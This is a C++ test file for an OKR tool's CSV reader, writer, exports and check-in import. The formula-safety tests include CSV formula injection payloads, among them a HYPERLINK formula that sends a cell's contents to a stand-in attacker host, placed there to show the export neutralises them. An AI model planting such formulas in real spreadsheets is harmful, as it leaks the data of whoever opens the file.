// The spreadsheet bridge: the RFC 4180 reader and writer, formula-safe cells, the key result
// and check-in exports, the check-in import with its problems by row and column, and the
// `okr csv` and `okr import-check-ins` commands.

#include <doctest/doctest.h>

#include <string>
#include <vector>

#include "cli/commands.hpp"
#include "cli/files.hpp"
#include "core/csv.hpp"
#include "core/csv_export.hpp"
#include "core/csv_import.hpp"
#include "core/export.hpp"
#include "core/import.hpp"
#include "core/merge.hpp"
#include "core/progress.hpp"
#include "method_support.hpp"
#include "temp_folder.hpp"
#include "workspace_builder.hpp"

using namespace okr;
using namespace okr::test;

namespace {

using Cells = std::vector<std::string>;

const std::string bom = "\xEF\xBB\xBF";
const Timestamp import_time = at("2027-03-01T10:00:00.000Z");

std::vector<Cells> cells_of(const CsvReadResult& result)
{
    std::vector<Cells> rows;
    for (const CsvRow& row : result.rows)
        rows.push_back(row.cells);
    return rows;
}

std::string csv_error_text(const CsvReadResult& result)
{
    REQUIRE(result.error.has_value());
    const CsvError& error = *result.error;
    return "row " + std::to_string(error.row) + " cell " + std::to_string(error.cell) + ": " + error.message;
}

// The rows of an exported CSV, without its header.
std::vector<Cells> data_rows(const std::string& csv)
{
    const CsvReadResult read = read_csv(csv);
    REQUIRE_FALSE(read.error.has_value());
    std::vector<Cells> rows = cells_of(read);
    rows.erase(rows.begin());
    return rows;
}

const Cells* row_with_id(const std::vector<Cells>& rows, const std::string& id)
{
    for (const Cells& row : rows)
        if (row.front() == id)
            return &row;
    return nullptr;
}

// kr-1 (78 -> 90) in the 2027 Q1 quarter, a person p-ana, and one check-in ci-1 on kr-1.
Workspace small_workspace()
{
    Workspace w = quarter_with(key_result("kr-1", Direction::increase, 78, 90));
    w.info.id = "w-small";
    w.info.name = "Small";
    KeyResult kr2 = key_result("kr-2", Direction::decrease, 48, 24);
    kr2.title = "Cut churn from 48 to 24";
    upsert_by_id(w.key_results, kr2);
    Person ana;
    ana.id = "p-ana";
    ana.name = "Ana";
    ana.updated_at = at("2027-01-01T00:00:00.000Z");
    upsert_by_id(w.people, ana);
    upsert_by_id(w.check_ins, check_in("ci-1", "kr-1", "2027-01-08", 80, 0.6));
    return w;
}

std::vector<std::string> problem_texts(const std::vector<CsvProblem>& problems)
{
    std::vector<std::string> texts;
    for (const CsvProblem& problem : problems)
        texts.push_back(to_string(problem));
    return texts;
}

bool contains(const std::string& text, const std::string& part)
{
    return text.find(part) != std::string::npos;
}

}  // namespace

// ---- the reader ------------------------------------------------------------------------------

TEST_CASE("csv: the reader unquotes commas, line breaks and doubled quotes, and reads CRLF, LF and a BOM")
{
    const std::string text = bom + "id,note\r\n"
                                   "a,\"one, two\"\r\n"
                                   "b,\"first line\nsecond line\"\n"
                                   "c,\"she said \"\"fine\"\"\"\n"
                                   "d,\n"
                                   ",\"\"";
    const CsvReadResult read = read_csv(text);
    CHECK_FALSE(read.error.has_value());
    const std::vector<Cells> expected = {{"id", "note"},         {"a", "one, two"}, {"b", "first line\nsecond line"},
                                         {"c", "she said \"fine\""}, {"d", ""},         {"", ""}};
    CHECK(cells_of(read) == expected);
    // Rows are numbered as a spreadsheet shows them, however many lines a quoted cell spans.
    REQUIRE(read.rows.size() == 6);
    CHECK(read.rows[3].number == 4);
}

TEST_CASE("csv: a final line break adds no row, and an empty file has none")
{
    CHECK(cells_of(read_csv("a,b\n")) == std::vector<Cells>{{"a", "b"}});
    CHECK(cells_of(read_csv("a,b\r\n")) == std::vector<Cells>{{"a", "b"}});
    CHECK(cells_of(read_csv("a,b\n\n")) == std::vector<Cells>{{"a", "b"}, {""}});
    CHECK(read_csv("").rows.empty());
    CHECK(read_csv(bom).rows.empty());
    CHECK_FALSE(read_csv(bom).error.has_value());
}

TEST_CASE("csv: the reader stops at what RFC 4180 does not allow, saying where")
{
    struct Row {
        std::string text;
        const char* error;
    };
    const Row rows[] = {
        {"a,b\nc,d\"e\n", "row 2 cell 2: a quote inside a cell that does not start with one: enclose the whole "
                          "cell in quotes and write the quote twice (\"\")"},
        {"a,\"b\"c\n", "row 1 cell 2: text after the closing quote of a cell: a quote inside a quoted cell is "
                       "written twice (\"\")"},
        {"a\n\"never closed,b\n", "row 2 cell 1: a quoted cell that is never closed: a closing quote (\") is missing"},
        {"a,b\rc,d\n", "row 1 cell 2: a carriage return that ends no line: rows end with CRLF or LF"},
        {"a\nKova\xE8,b\n", "row 2 cell 1: bytes that are not UTF-8 (\"Kova\\xE8\"): save the file as CSV UTF-8"},
        {"\xFF\xFEk\0e\0", "row 1 cell 0: the file is UTF-16, not UTF-8: save it as CSV UTF-8"},
    };
    for (const Row& row : rows) {
        CAPTURE(row.text);
        CHECK(csv_error_text(read_csv(row.text)) == row.error);
    }
    // The rows before the error are kept, for the problems they hold.
    CHECK(cells_of(read_csv("a,b\nc,d\"e\n")) == std::vector<Cells>{{"a", "b"}});
}

// ---- the writer and formula-safe cells -------------------------------------------------------

TEST_CASE("csv: text a spreadsheet would run as a formula gets an apostrophe, and reads back as written")
{
    struct Row {
        const char* text;
        const char* safe;
    };
    const Row rows[] = {
        {"=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"},
        {"+1+1", "'+1+1"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "'\r=1"},
        {"'quoted", "''quoted"},
        {"Fine as it is", "Fine as it is"},
        {"a = b", "a = b"},
        {"", ""},
    };
    for (const Row& row : rows) {
        CAPTURE(row.text);
        CHECK(formula_safe(row.text) == row.safe);
        CHECK(from_formula_safe(row.safe) == row.text);
    }
    // An apostrophe a person typed before other text is theirs, not ours.
    CHECK(from_formula_safe("'hello") == "'hello");
}

TEST_CASE("csv: the writer quotes what needs it and leaves numbers as numbers, negative ones too")
{
    CsvWriter out;
    out.text("plain");
    out.text("a, b");
    out.text("say \"hi\"");
    out.text("two\nlines");
    out.text("-3.5");  // text that looks like a number is still text a spreadsheet could evaluate
    out.end_row();
    out.number(-3.5);
    out.number(78.0);
    out.number(std::optional<double>());
    out.number(0.1);
    out.end_row();
    CHECK(out.bytes() == bom + "plain,\"a, b\",\"say \"\"hi\"\"\",\"two\nlines\",'-3.5\r\n-3.5,78,,0.1\r\n");
}

// ---- the exports -----------------------------------------------------------------------------

TEST_CASE("csv: the key result export has a row per KR with the core's progress and status")
{
    const Workspace northwind = sample("northwind-it.json");
    const std::string csv = key_results_csv(northwind);
    CHECK(csv.starts_with(bom + "id,title,objective,objective_title,team,team_name,cycle,cycle_name,direction,unit,"
                                "baseline,target,deadline,weight,owner,current_value,last_check_in,confidence,status,"
                                "progress,raw_progress,invalid_reason,final_score,score_note\r\n"));

    const std::vector<Cells> rows = data_rows(csv);
    CHECK(rows.size() == northwind.key_results.size());
    const Cells* first_contact = row_with_id(rows, "kr-first-contact");
    REQUIRE(first_contact != nullptr);
    const Cells expected = {"kr-first-contact",
                            "Lift first-contact resolution from 55% to 75%",
                            "o-sd-fast",
                            "Make every client feel their issue is handled at once",
                            "t-servicedesk",
                            "Service Desk",
                            "c-2027q1",
                            "2027 Q1",
                            "increase",
                            "%",
                            "55",
                            "75",
                            "2027-03-31",
                            "1",
                            "p-ben",
                            "63.33",
                            "2027-02-26",
                            "0.3",
                            "at_risk",
                            "0.4164999999999999",
                            "0.4164999999999999",
                            "",
                            "",
                            ""};
    CHECK(*first_contact == expected);

    // Every progress cell is the core's figure, written as the file writes numbers.
    for (const KeyResult& kr : northwind.key_results) {
        CAPTURE(kr.id);
        const Cells* row = row_with_id(rows, kr.id);
        REQUIRE(row != nullptr);
        const KrProgress progress = key_result_progress(northwind, kr);
        CHECK((*row)[19] == (progress.progress ? number_text(*progress.progress) : ""));
        CHECK((*row)[21] == progress.invalid_reason.value_or(""));
    }
}

TEST_CASE("csv: a KR that cannot be measured shows its reason and no progress, never 0")
{
    Workspace w = quarter_with(key_result("kr-flat", Direction::increase, 10, 10));
    const Cells row = data_rows(key_results_csv(w)).at(0);
    CHECK(row[19].empty());
    CHECK(row[20].empty());
    CHECK_FALSE(row[21].empty());
    CHECK(row[16].empty());  // no check-in yet: no date, confidence or status
    CHECK(row[17].empty());
    CHECK(row[18].empty());
}

TEST_CASE("csv: the check-in export has a row per check-in, each KR's readings in order")
{
    const Workspace northwind = sample("northwind-it.json");
    const std::string csv = check_ins_csv(northwind);
    CHECK(csv.starts_with(bom + "id,key_result,key_result_title,date,value,confidence,note,author,recorded_at,"
                                "corrects\r\n"));
    const std::vector<Cells> rows = data_rows(csv);
    CHECK(rows.size() == northwind.check_ins.size());
    const Cells* resolution = row_with_id(rows, "ci-resolution-03");
    REQUIRE(resolution != nullptr);
    CHECK(*resolution == Cells{"ci-resolution-03", "kr-resolution", "Reduce average ticket resolution time from 48 hours to 24 hours",
                               "2027-01-22", "42.88", "0.8", "Übergabe an Team Süd läuft", "p-ben",
                               "2027-01-22T15:30:00.000Z", ""});
    for (size_t i = 1; i < rows.size(); ++i) {
        CAPTURE(rows[i].front());
        const bool same_kr = rows[i - 1][1] == rows[i][1];
        CHECK((rows[i - 1][1] < rows[i][1] || (same_kr && rows[i - 1][3] <= rows[i][3])));
    }
}

TEST_CASE("csv: text from teammates is formula-safe in the export, and the import gives it back")
{
    Workspace w = small_workspace();
    CheckIn hostile = check_in("ci-2", "kr-1", "2027-01-15", -3.5, 0.5);
    hostile.note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    upsert_by_id(w.check_ins, hostile);
    find_by_id(w.key_results, "kr-1")->title = "@risk: lift retention";

    const std::vector<Cells> rows = data_rows(check_ins_csv(w));
    const Cells* row = row_with_id(rows, "ci-2");
    REQUIRE(row != nullptr);
    CHECK((*row)[2] == "'@risk: lift retention");
    CHECK((*row)[4] == "-3.5");  // the value stays a number
    CHECK((*row)[6] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");

    const CheckInCsvImport again = import_check_ins_csv(w, check_ins_csv(w), import_time);
    CHECK(again.refusals.empty());
    CHECK(again.already_present == 2);  // the note read back is the note written
}

// ---- the import: what it adds ----------------------------------------------------------------

TEST_CASE("csv: northwind's own check-in export imports as nothing new")
{
    const Workspace northwind = sample("northwind-it.json");
    const CheckInCsvImport imported = import_check_ins_csv(northwind, check_ins_csv(northwind), import_time);
    CHECK(imported.refusals.empty());
    CHECK(imported.warnings.empty());
    CHECK(imported.already_present == northwind.check_ins.size());
    REQUIRE(imported.incoming.has_value());
    CHECK(imported.incoming->check_ins.empty());
    const MergeResult merged = merge_workspaces(northwind, *imported.incoming);
    CHECK(merged.notes.empty());
    CHECK(export_workspace(merged.merged) == export_workspace(northwind));
}

TEST_CASE("csv: without the id column, readings the workspace holds are still recognised by content")
{
    const Workspace northwind = sample("northwind-it.json");
    std::string csv = "key_result,date,value,confidence,note\n";
    for (const CheckIn& c : northwind.check_ins)
        csv += c.key_result + "," + c.date.to_string() + "," + number_text(c.value) + "," +
               number_text(c.confidence) + ",\"" + c.note.value_or("") + "\"\n";
    const CheckInCsvImport imported = import_check_ins_csv(northwind, csv, import_time);
    CHECK(imported.refusals.empty());
    CHECK(imported.already_present == northwind.check_ins.size());
    REQUIRE(imported.incoming.has_value());
    CHECK(imported.incoming->check_ins.empty());
}

TEST_CASE("csv: new readings get ids from their content, merge as added, and a second import adds nothing")
{
    const Workspace w = small_workspace();
    const std::string csv = "Confidence , Key Result,date,value,note\r\n"
                            "0.7,kr-1,2027-01-15,82,\"Onboarding calls, week 2\"\r\n"
                            "0.65,kr-2,2027-01-15,44,\"Two lines:\nfirst, then \"\"second\"\"\"\r\n";
    const CheckInCsvImport imported = import_check_ins_csv(w, csv, import_time);
    CHECK(imported.refusals.empty());
    CHECK(imported.warnings.empty());
    REQUIRE(imported.incoming.has_value());
    const std::vector<CheckIn>& added = imported.incoming->check_ins;
    REQUIRE(added.size() == 2);

    const CheckIn* onboarding = nullptr;
    for (const CheckIn& c : added)
        onboarding = c.key_result == "kr-1" ? &c : onboarding;
    REQUIRE(onboarding != nullptr);
    CHECK(onboarding->id == check_in_id_from_content(*onboarding));
    CHECK(onboarding->id.starts_with("ci-csv-"));
    CHECK(onboarding->id.size() == 23);
    CHECK(onboarding->date == day("2027-01-15"));
    CHECK(onboarding->value == 82);
    CHECK(onboarding->confidence == 0.7);
    CHECK(onboarding->note == "Onboarding calls, week 2");
    CHECK(onboarding->recorded_at == import_time);
    CHECK_FALSE(onboarding->author.has_value());
    for (const CheckIn& c : added)
        if (c.key_result == "kr-2")
            CHECK(c.note == "Two lines:\nfirst, then \"second\"");

    // The same file gives the same ids, whenever it is imported.
    const CheckInCsvImport later = import_check_ins_csv(w, csv, at("2027-03-09T08:00:00.000Z"));
    REQUIRE(later.incoming.has_value());
    CHECK(later.incoming->check_ins.at(0).id == added.at(0).id);

    const MergeResult merged = merge_workspaces(w, *imported.incoming);
    CHECK(merged.count(MergeOutcome::added) == 2);
    CHECK(merged.notes.size() == 2);
    CHECK(merged.merged.info.name == w.info.name);
    const ImportResult reread = import_workspace(export_workspace(merged.merged));
    CHECK_FALSE(reread.refused());
    REQUIRE(reread.workspace.has_value());
    CHECK(reread.workspace->check_ins.size() == 3);

    const CheckInCsvImport twice = import_check_ins_csv(merged.merged, csv, import_time);
    CHECK(twice.refusals.empty());
    CHECK(twice.already_present == 2);
    REQUIRE(twice.incoming.has_value());
    CHECK(twice.incoming->check_ins.empty());
}

TEST_CASE("csv: optional columns id, author, recorded_at and corrects are read")
{
    const Workspace w = small_workspace();
    const std::string csv = "id,key_result,date,value,confidence,author,recorded_at,corrects,key_result_title\n"
                            "ci-fix,kr-1,2027-01-08,81,0.6,p-ana,2027-01-09T08:00:00+02:00,ci-1,Lift retention\n"
                            "ci-new,kr-2,2027-01-22,40,0.5,,,,\n"
                            "ci-fix-2,kr-2,2027-01-22,41,0.5,,,ci-new,\n";
    const CheckInCsvImport imported = import_check_ins_csv(w, csv, import_time);
    CHECK(problem_texts(imported.refusals).empty());
    REQUIRE(imported.incoming.has_value());
    const std::vector<CheckIn>& added = imported.incoming->check_ins;
    REQUIRE(added.size() == 3);
    CHECK(added[0].id == "ci-fix");
    CHECK(added[0].author == "p-ana");
    CHECK(added[0].corrects == "ci-1");
    CHECK(added[0].recorded_at.unix_ms == at("2027-01-09T06:00:00.000Z").unix_ms);
    CHECK(added[1].id == "ci-fix-2");
    CHECK(added[1].corrects == "ci-new");
    CHECK(added[2].id == "ci-new");
    CHECK(added[2].recorded_at == import_time);
}

TEST_CASE("csv: blank rows are skipped; a header alone imports nothing, with a warning")
{
    const Workspace w = small_workspace();
    const CheckInCsvImport blank_rows = import_check_ins_csv(w, "key_result,date,value,confidence\n,,,\n\n"
                                                                "kr-1,2027-01-15,82,0.7\n,,,\n",
                                                             import_time);
    CHECK(blank_rows.refusals.empty());
    REQUIRE(blank_rows.incoming.has_value());
    CHECK(blank_rows.incoming->check_ins.size() == 1);

    const CheckInCsvImport header_only = import_check_ins_csv(w, "key_result,date,value,confidence\r\n", import_time);
    CHECK(header_only.refusals.empty());
    CHECK(problem_texts(header_only.warnings) == std::vector<std::string>{"no check-in rows below the header"});
    REQUIRE(header_only.incoming.has_value());
    CHECK(header_only.incoming->check_ins.empty());
}

TEST_CASE("csv: unknown columns, unnamed columns with data, unknown authors and deleted ids are warnings")
{
    Workspace w = small_workspace();
    upsert_by_id(w.deleted, tombstone("ci-gone", at("2027-02-01T00:00:00.000Z")));
    const std::string csv = "key_result,date,value,confidence,author,comment,,id\n"
                            "kr-1,2027-01-15,82,0.7,p-nobody,hello,stray,\n"
                            "kr-1,2027-01-22,83,0.7,,,,ci-gone\n";
    const CheckInCsvImport imported = import_check_ins_csv(w, csv, import_time);
    CHECK(imported.refusals.empty());
    CHECK(problem_texts(imported.warnings) ==
          std::vector<std::string>{"row 1, column comment: not a check-in column: its cells are not read",
                                   "row 1, column 7: a column without a name: its cells are not read",
                                   "row 2, column author: no person 'p-nobody' in the workspace",
                                   "row 3, column id: ci-gone was deleted from this workspace: the row is left out"});
    REQUIRE(imported.incoming.has_value());
    REQUIRE(imported.incoming->check_ins.size() == 1);
    CHECK(imported.incoming->check_ins[0].author == "p-nobody");
}

// ---- the import: what it refuses -------------------------------------------------------------

TEST_CASE("csv: each bad input is refused with its row and column, and nothing is added")
{
    const std::string header = "key_result,date,value,confidence\n";
    struct Row {
        std::string csv;
        std::vector<std::string> problems;
    };
    const Row rows[] = {
        {"", {"the file is empty: it needs a header row (key_result, date, value and confidence) and a row for "
              "each check-in"}},
        {bom, {"the file is empty: it needs a header row (key_result, date, value and confidence) and a row for "
               "each check-in"}},
        {"key_result,date,value\nkr-1,2027-01-15,82\n",
         {"row 1, column confidence: missing: the header needs key_result, date, value and confidence, in any "
          "order"}},
        {"key_result;date;value;confidence\nkr-1;2027-01-15;82;0.7\n",
         {"row 1, column key_result: missing: the header needs key_result, date, value and confidence, in any "
          "order; the cells seem to be separated by ';': save the file as CSV with commas",
          "row 1, column date: missing: the header needs key_result, date, value and confidence, in any order; "
          "the cells seem to be separated by ';': save the file as CSV with commas",
          "row 1, column value: missing: the header needs key_result, date, value and confidence, in any order; "
          "the cells seem to be separated by ';': save the file as CSV with commas",
          "row 1, column confidence: missing: the header needs key_result, date, value and confidence, in any "
          "order; the cells seem to be separated by ';': save the file as CSV with commas"}},
        {"key_result,date,value,confidence,Value\n",
         {"row 1, column value: a second value column (the first is column 3)"}},
        {header + "kr-nope,2027-01-15,82,0.7\n",
         {"row 2, column key_result: no key result with the id 'kr-nope' in the workspace"}},
        {header + "Cut churn from 48 to 24,2027-01-15,44,0.7\n",
         {"row 2, column key_result: 'Cut churn from 48 to 24' is the title of kr-2: write its id"}},
        {header + ",2027-01-15,82,0.7\n",
         {"row 2, column key_result: empty: each check-in names the id of its key result"}},
        {header + "kr-1,15/01/2027,82,0.7\n",
         {"row 2, column date: '15/01/2027' is not a date written as YYYY-MM-DD: format the column as text, or "
          "as yyyy-mm-dd, before saving"}},
        {header + "kr-1,2027-02-30,82,0.7\n", {"row 2, column date: '2027-02-30' is not a day of the calendar"}},
        {header + "kr-1,2027-01-15T10:00,82,0.7\n",
         {"row 2, column date: '2027-01-15T10:00' is not a date written as YYYY-MM-DD: format the column as "
          "text, or as yyyy-mm-dd, before saving"}},
        {header + "kr-1,2027-01-15,eighty,0.7\n", {"row 2, column value: 'eighty' is not a number"}},
        {header + "kr-1,2027-01-15,\"82,5\",0.7\n",
         {"row 2, column value: '82,5' is not a number: write the decimal point as a dot"}},
        {header + "kr-1,2027-01-15,82%,0.7\n",
         {"row 2, column value: '82%' is not a number: write it without the % sign"}},
        {header + "kr-1,2027-01-15,NaN,0.7\n", {"row 2, column value: 'NaN' is not a finite number"}},
        {header + "kr-1,2027-01-15,-Infinity,0.7\n", {"row 2, column value: '-Infinity' is not a finite number"}},
        {header + "kr-1,2027-01-15,1e400,0.7\n", {"row 2, column value: '1e400' is beyond the range of a double"}},
        {header + "kr-1,2027-01-15,1e-400,0.7\n",
         {"row 2, column value: '1e-400' is too small for a double: it would read as 0"}},
        {header + "kr-1,2027-01-15,#DIV/0!,0.7\n",
         {"row 2, column value: '#DIV/0!' is a spreadsheet error, not a number: fix the formula, or write the "
          "value itself"}},
        {header + "kr-1,2027-01-15,,0.7\n", {"row 2, column value: empty: each check-in has a value"}},
        {header + "kr-1,2027-01-15,82,1.4\n", {"row 2, column confidence: 1.4 is outside 0 to 1"}},
        {header + "kr-1,2027-01-15,82,-0.1\n", {"row 2, column confidence: -0.1 is outside 0 to 1"}},
        {header + "kr-1,2027-01-15,82,70\n", {"row 2, column confidence: 70 is outside 0 to 1 (70 % is 0.7)"}},
        {header + "kr-1,2027-01-15,82\n", {"row 2: 3 cells where the header has 4 columns"}},
        {header + "kr-1,2027-01-15,82,0.7\nkr-1,2027-01-15,82,0.7\n",
         {"row 3: the same check-in as row 2: remove one of them"}},
        {"id," + header + "ci-a,kr-1,2027-01-15,82,0.7\nci-a,kr-1,2027-01-22,83,0.7\n",
         {"row 3, column id: ci-a is also the id of row 2"}},
        {"id," + header + "ci-1,kr-1,2027-01-08,81,0.5\n",
         {"row 2, column id: ci-1 is in the workspace with another value and confidence: check-ins are never "
          "edited; leave the id empty to add this reading as a new one"}},
        {"id," + header + "ci 2,kr-1,2027-01-15,82,0.7\n",
         {"row 2, column id: 'ci 2' is not an id: 1 to 64 characters of A-Z a-z 0-9 . _ -"}},
        {"corrects," + header + "ci-zz,kr-1,2027-01-15,82,0.7\n",
         {"row 2, column corrects: no check-in 'ci-zz' in the workspace or the file"}},
        {"corrects," + header + "ci-1,kr-2,2027-01-15,44,0.7\n",
         {"row 2, column corrects: ci-1 is a check-in of kr-1, not of kr-2"}},
        {"recorded_at," + header + "yesterday,kr-1,2027-01-15,82,0.7\n",
         {"row 2, column recorded_at: 'yesterday' is not an RFC 3339 timestamp such as "
          "2027-02-26T09:12:00.000Z"}},
        {"note," + header + "Kova\xE8,kr-1,2027-01-15,82,0.7\n",
         {"row 2, column note: bytes that are not UTF-8 (\"Kova\\xE8\"): save the file as CSV UTF-8"}},
        {header + "kr-1,2027-01-15,82,\"0.7\n",
         {"row 2, column confidence: a quoted cell that is never closed: a closing quote (\") is missing"}},
        {header + "kr-1,2027-01-15,82,0.7\r", {"row 2, column confidence: a carriage return that ends no line: "
                                               "rows end with CRLF or LF"}},
        {"\xFF\xFEk\0", {"row 1: the file is UTF-16, not UTF-8: save it as CSV UTF-8"}},
    };
    const Workspace w = small_workspace();
    for (const Row& row : rows) {
        CAPTURE(row.csv);
        const CheckInCsvImport imported = import_check_ins_csv(w, row.csv, import_time);
        CHECK(problem_texts(imported.refusals) == row.problems);
        CHECK(imported.refused());
        CHECK_FALSE(imported.incoming.has_value());
    }
}

TEST_CASE("csv: every problem of a file is reported, not just the first, and a good row is not added")
{
    const std::string csv = "key_result,date,value,confidence\n"
                            "kr-1,2027-01-15,82,0.7\n"
                            "kr-1,2027-13-01,x,2\n"
                            "kr-2,2027-01-15,44,0.5\n"
                            "kr-9,2027-01-15,1,0.5\n";
    const CheckInCsvImport imported = import_check_ins_csv(small_workspace(), csv, import_time);
    CHECK(problem_texts(imported.refusals) ==
          std::vector<std::string>{"row 3, column date: '2027-13-01' is not a day of the calendar",
                                   "row 3, column value: 'x' is not a number",
                                   "row 3, column confidence: 2 is outside 0 to 1 (2 % is 0.02)",
                                   "row 5, column key_result: no key result with the id 'kr-9' in the workspace"});
    CHECK_FALSE(imported.incoming.has_value());
}

TEST_CASE("csv: a problem names the row and column, the row alone, or the whole file")
{
    CHECK(to_string(CsvProblem{7, "confidence", "1.4 is outside 0 to 1"}) ==
          "row 7, column confidence: 1.4 is outside 0 to 1");
    CHECK(to_string(CsvProblem{3, "", "3 cells where the header has 4 columns"}) ==
          "row 3: 3 cells where the header has 4 columns");
    CHECK(to_string(CsvProblem{0, "", "the file is empty"}) == "the file is empty");
}

// ---- the commands ----------------------------------------------------------------------------

using namespace okr::cli;

TEST_CASE("okr csv writes a workspace's key results or check-ins, and exits 1 on a refused file")
{
    const std::string northwind = read_sample("northwind-it.json");
    const Output key_results = csv_command(Command::csv_key_results, "northwind-it.json", northwind);
    CHECK(key_results.exit_code == exit_ok);
    CHECK(key_results.out == key_results_csv(sample("northwind-it.json")));
    CHECK(key_results.err.empty());

    const Output check_ins = csv_command(Command::csv_check_ins, "northwind-it.json", northwind);
    CHECK(check_ins.out == check_ins_csv(sample("northwind-it.json")));

    const Output refused = csv_command(Command::csv_check_ins, "future.json", R"({"format": "okr-cascade", "version": 99})");
    CHECK(refused.exit_code == exit_problems);
    CHECK(refused.out.empty());
    CHECK(refused.err == "future.json: refused /version: version 99 is newer than this app reads (1)\n"
                         "future.json refused: 1 problem\n");
}

TEST_CASE("okr import-check-ins writes the file with the new check-ins and says what it added")
{
    const std::string file = export_workspace(small_workspace());
    const std::string csv = "key_result,date,value,confidence,author,mood\n"
                            "kr-1,2027-01-15,82,0.7,p-ana,good\n"
                            "kr-1,2027-01-08,80,0.6,,fine\n";
    const Output output = import_check_ins_command("q1.json", file, "sheet.csv", csv, import_time);
    CHECK(output.exit_code == exit_ok);
    CHECK(output.err == "sheet.csv: warning row 1, column mood: not a check-in column: its cells are not read\n"
                        "added 1 check-in from sheet.csv to q1.json, 1 already present\n");
    const ImportResult written = import_workspace(output.out);
    REQUIRE_FALSE(written.refused());
    CHECK(written.workspace->check_ins.size() == 2);
    CHECK(output.out == export_workspace(merge_workspaces(small_workspace(),
                                                          *import_check_ins_csv(small_workspace(), csv, import_time)
                                                               .incoming)
                                             .merged));

    const Output again = import_check_ins_command("q1.json", output.out, "sheet.csv", csv, import_time);
    CHECK(again.out == output.out);
    CHECK(contains(again.err, "added 0 check-ins from sheet.csv to q1.json, 2 already present\n"));
}

TEST_CASE("okr import-check-ins exits 1 with each problem of a refused CSV and writes nothing")
{
    const std::string file = export_workspace(small_workspace());
    const std::string csv = "key_result,date,value,confidence\nkr-1,2027-01-15,82,1.4\nkr-x,2027-01-15,82,0.5\n";
    const Output output = import_check_ins_command("q1.json", file, "sheet.csv", csv, import_time);
    CHECK(output.exit_code == exit_problems);
    CHECK(output.out.empty());
    CHECK(output.err == "sheet.csv: refused row 2, column confidence: 1.4 is outside 0 to 1\n"
                        "sheet.csv: refused row 3, column key_result: no key result with the id 'kr-x' in the "
                        "workspace\n"
                        "sheet.csv refused: 2 problems; nothing imported\n");

    const Output refused_file = import_check_ins_command("future.json", R"({"format": "okr-cascade", "version": 99})",
                                                         "sheet.csv", csv, import_time);
    CHECK(refused_file.exit_code == exit_problems);
    CHECK(refused_file.out.empty());
    CHECK(contains(refused_file.err, "future.json refused: 1 problem\n"));
}

TEST_CASE("okr csv and okr import-check-ins on files: -o writes OUT, a refused CSV leaves it alone")
{
    const Folder folder;
    const std::string it = folder.sample("northwind-it.json");
    const Timestamp now = at("2027-03-02T09:00:00.000Z");

    const std::string csv_out = folder.file("check-ins.csv");
    const Output written = run({"csv", "check-ins", it, "-o", csv_out}, day("2027-03-02"), now);
    CHECK(written.exit_code == exit_ok);
    CHECK(written.out.empty());
    CHECK(read_file(csv_out) == check_ins_csv(sample("northwind-it.json")));

    const Output printed = run({"csv", "key-results", it}, day("2027-03-02"), now);
    CHECK(printed.exit_code == exit_ok);
    CHECK(printed.out == key_results_csv(sample("northwind-it.json")));

    const std::string merged = folder.file("merged.json");
    const std::string good = folder.file("good.csv", "key_result,date,value,confidence\n"
                                                     "kr-first-contact,2027-03-01,66,0.5\n");
    const Output imported = run({"import-check-ins", it, good, "-o", merged}, day("2027-03-02"), now);
    CHECK(imported.exit_code == exit_ok);
    CHECK(imported.err == "added 1 check-in from " + good + " to " + it + ", 0 already present\n");
    const ImportResult reread = import_workspace(read_file(merged).value_or(""));
    REQUIRE_FALSE(reread.refused());
    CHECK(reread.workspace->check_ins.size() == sample("northwind-it.json").check_ins.size() + 1);
    bool stamped_now = false;
    for (const CheckIn& c : reread.workspace->check_ins)
        stamped_now = stamped_now || (c.key_result == "kr-first-contact" && c.recorded_at == now);
    CHECK(stamped_now);

    const std::string kept = folder.file("kept.json", "unchanged");
    const std::string bad = folder.file("bad.csv", "key_result,date,value,confidence\nkr-first-contact,2027-03-01,66,7\n");
    const Output refused = run({"import-check-ins", it, bad, "-o", kept}, day("2027-03-02"), now);
    CHECK(refused.exit_code == exit_problems);
    CHECK(read_file(kept) == "unchanged");
    CHECK(contains(refused.err, "row 2, column confidence: 7 is outside 0 to 1 (7 % is 0.07)\n"));

    CHECK(run({"import-check-ins", it, folder.file("missing.csv")}, day("2027-03-02"), now).exit_code == exit_usage);
}

TEST_CASE("okr csv and import-check-ins: usage errors exit 2 with a message")
{
    struct Row {
        std::vector<std::string> args;
        const char* message;
    };
    const Row rows[] = {
        {{"csv"}, "okr: csv writes key-results or check-ins: okr csv key-results FILE [-o OUT]\n"},
        {{"csv", "objectives", "f.json"},
         "okr: csv writes key-results or check-ins, not 'objectives': okr csv key-results FILE [-o OUT]\n"},
        {{"csv", "key-results"}, "okr: which file? give the path of an OKR cascade file\n"},
        {{"csv", "check-ins", "f.json", "--today", "2027-03-02"}, "okr: --today goes with check and report\n"},
        {{"csv", "check-ins", "f.json", "--json"}, "okr: --json goes with report\n"},
        {{"import-check-ins", "f.json"}, "okr: which files? okr import-check-ins FILE CSV [-o OUT]\n"},
        {{"import-check-ins", "f.json", "a.csv", "b.csv"},
         "okr: import-check-ins takes two files: 'b.csv' is one too many\n"},
        {{"check", "f.json", "-o", "x"}, "okr: -o goes with merge, team, csv and import-check-ins\n"},
    };
    for (const Row& row : rows) {
        CAPTURE(row.message);
        const Output output = run(row.args, day("2027-03-02"));
        CHECK(output.exit_code == exit_usage);
        CHECK(output.err.rfind(row.message, 0) == 0);
    }

    const auto parsed = std::get<Arguments>(parse_arguments({"csv", "key-results", "f.json", "-o", "out.csv"},
                                                            day("2027-03-02")));
    CHECK(parsed.command == Command::csv_key_results);
    CHECK(parsed.files == std::vector<std::string>{"f.json"});
    CHECK(parsed.output == "out.csv");
    CHECK(contains(usage(), "okr import-check-ins FILE CSV [-o OUT]"));
}
